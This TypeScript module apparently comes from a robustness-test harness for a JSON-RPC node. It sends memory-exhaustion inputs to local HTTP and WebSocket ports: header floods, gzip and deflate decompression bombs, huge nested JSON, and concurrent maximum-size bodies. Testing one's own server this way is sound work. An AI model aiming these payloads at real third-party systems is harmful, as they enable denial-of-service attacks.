import { createGzip, deflateRawSync, deflateSync } from 'node:zlib'
import type { Attack } from './attack.ts'
import { exchange, firstAnswer, open, pause, write } from './sockets.ts'
import { COMPRESSED, frame, handshake } from './websocket-bytes.ts'

/** Input that costs the node memory: large headers, large bodies, and small input that expands. */

const ANSWER_MAX_MS = 20_000
const PIECE_BYTES = 64 * 1024
const MB = 1_000_000

const statusOf = (answer: string): string => /^HTTP\/1\.1 (\d+)/.exec(answer)?.[1] ?? 'none'

function tally(statuses: readonly string[]): string {
  const counts = new Map<string, number>()
  for (const status of statuses) counts.set(status, (counts.get(status) ?? 0) + 1)
  return [...counts]
    .sort()
    .map(([status, count]) => `${status}: ${count}`)
    .join(', ')
}

export const headerFlood: Attack = async ({ http, websocket }, { seconds }) => {
  const start = 'POST / HTTP/1.1\r\nHost: localhost\r\n'
  const floods = [
    `${start}${'X-Many: 1\r\n'.repeat(20_000)}\r\n`,
    `${start}X-Long: ${'a'.repeat(MB)}\r\n\r\n`,
    `GET /${'a'.repeat(MB)} HTTP/1.1\r\nHost: localhost\r\n\r\n`,
    `${start}Transfer-Encoding: chunked\r\n\r\n1;${'e'.repeat(MB)}\r\n[\r\n0\r\n\r\n`,
    `${start}Transfer-Encoding: chunked\r\n\r\n0\r\n${'T: 1\r\n'.repeat(100_000)}\r\n`,
    `${start}Authorization: Bearer ${'e'.repeat(15_000)}\r\nContent-Length: 2\r\n\r\n[]`,
  ]
  const statuses: string[] = []
  const endMs = performance.now() + seconds * 1_000
  for (let index = 0; performance.now() < endMs; index++) {
    const flood = floods[index % floods.length]!
    const answers = await Promise.all([
      exchange(http, flood, ANSWER_MAX_MS),
      exchange(websocket, flood, ANSWER_MAX_MS),
    ])
    statuses.push(...answers.map(statusOf))
    await pause(5)
  }
  return `${statuses.length} floods of up to 1 MB; ${tally(statuses)}`
}

export const gzipBombs: Attack = async ({ http, websocket, bodyMaxBytes }, { seconds }) => {
  const bombs = [
    { coding: 'gzip', bytes: await gzip('[', ' ', bodyMaxBytes * 20) },
    { coding: 'gzip', bytes: await gzip('', '[', 100 * MB) },
    { coding: 'gzip', bytes: await gzip('["', 'a', bodyMaxBytes * 2) },
    { coding: 'deflate', bytes: deflateSync(Buffer.alloc(4 * MB, '1,')) },
  ]
  const message = deflateRawSync(Buffer.alloc(64 * MB, ' '))
  const statuses: string[] = []
  const endMs = performance.now() + seconds * 1_000
  for (let index = 0; performance.now() < endMs; index++) {
    const { coding, bytes } = bombs[(index >> 1) % bombs.length]!
    const head = `POST / HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Encoding: ${coding}\r\nContent-Length: ${bytes.length}\r\n\r\n`
    const [answer] = await Promise.all([
      // Every second client leaves before the answer.
      exchange(http, Buffer.concat([Buffer.from(head), bytes]), ANSWER_MAX_MS, index % 2 === 1),
      swell(websocket, message),
    ])
    statuses.push(statusOf(answer))
  }
  const largest = Math.max(...bombs.map(({ bytes }) => bytes.length))
  return `${statuses.length} bombs of at most ${Math.round(largest / 1_000)} kB over HTTP (${tally(statuses)}) and as many over WebSocket`
}

async function swell(port: number, compressed: Uint8Array): Promise<void> {
  const socket = open(port)
  const timer = setTimeout(() => socket.destroy(), ANSWER_MAX_MS)
  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()))
  socket.write(handshake(port, 'sec-websocket-extensions: permessage-deflate\r\n'))
  await firstAnswer(socket)
  socket.resume()
  socket.end(frame(compressed, { flags: COMPRESSED }))
  await closed
  clearTimeout(timer)
}

/** Never holds the uncompressed text. */
async function gzip(start: string, fill: string, bytes: number): Promise<Buffer> {
  const stream = createGzip()
  const packed = stream.toArray()
  const piece = Buffer.alloc(PIECE_BYTES, fill)
  stream.write(start)
  for (let sent = 0; sent < bytes; sent += PIECE_BYTES) {
    if (!stream.write(piece)) await new Promise((resolve) => stream.once('drain', resolve))
  }
  stream.end()
  return Buffer.concat(await packed)
}

/** 100 MB of `[[[[…`, `[[],[],…` and `{"a":{"a":…`, in chunks, so no length warns the node. */
export const nestedArrays: Attack = async ({ http, websocket }) => {
  const bodies = ['[', '[],', '{"a":', '[1,']
  const statuses = await Promise.all(
    bodies.map((body) => streamBody(http, '[', Buffer.alloc(PIECE_BYTES, body), 100 * MB)),
  )
  const deep = await Promise.all(
    bodies.map((body) => exchangeFrame(websocket, frame(Buffer.alloc(MB, body)))),
  )
  return `100 MB each of ${bodies.join(' ')} over HTTP (${tally(statuses)}), 1 MB over WebSocket (${tally(deep)})`
}

/** Several JSON bodies of the maximum size at once: one fits into memory, several do not. */
export const largestBodies: Attack = async ({ http, bodyMaxBytes }, { seconds }) => {
  const endMs = performance.now() + seconds * 1_000
  const statuses: string[] = []
  const piece = Buffer.alloc(PIECE_BYTES, 'a')
  const start = '{"jsonrpc":"2.0","id":1,"method":"web3_sha3","params":["'
  while (performance.now() < endMs) {
    const length = bodyMaxBytes - PIECE_BYTES - 100
    statuses.push(...(await Promise.all([1, 2, 3].map(() => streamBody(http, start, piece, length, '"]}')))))
  }
  return `${statuses.length} bodies of ${Math.round(bodyMaxBytes / MB)} MB, three at a time (${tally(statuses)})`
}

async function streamBody(
  port: number,
  start: string,
  piece: Uint8Array,
  bytes: number,
  end = '',
): Promise<string> {
  const socket = open(port)
  const answered = firstAnswer(socket)
  const timer = setTimeout(() => socket.destroy(), ANSWER_MAX_MS)
  const chunk = Buffer.concat([Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n')])
  const text = (part: string): string => (part === '' ? '' : `${part.length.toString(16)}\r\n${part}\r\n`)
  socket.write(`POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n${text(start)}`)
  for (let sent = 0; sent < bytes && !socket.destroyed; sent += piece.length) await write(socket, chunk)
  await write(socket, `${text(end)}0\r\n\r\n`)
  const status = statusOf(await answered)
  clearTimeout(timer)
  socket.destroy()
  return status
}

async function exchangeFrame(port: number, bytes: Uint8Array): Promise<string> {
  const socket = open(port)
  const timer = setTimeout(() => socket.destroy(), ANSWER_MAX_MS)
  socket.write(handshake(port))
  await firstAnswer(socket)
  const answer = firstAnswer(socket)
  await write(socket, bytes)
  const text = await answer
  clearTimeout(timer)
  socket.destroy()
  return text.includes('-32700') ? 'refused' : text === '' ? 'none' : 'closed'
}
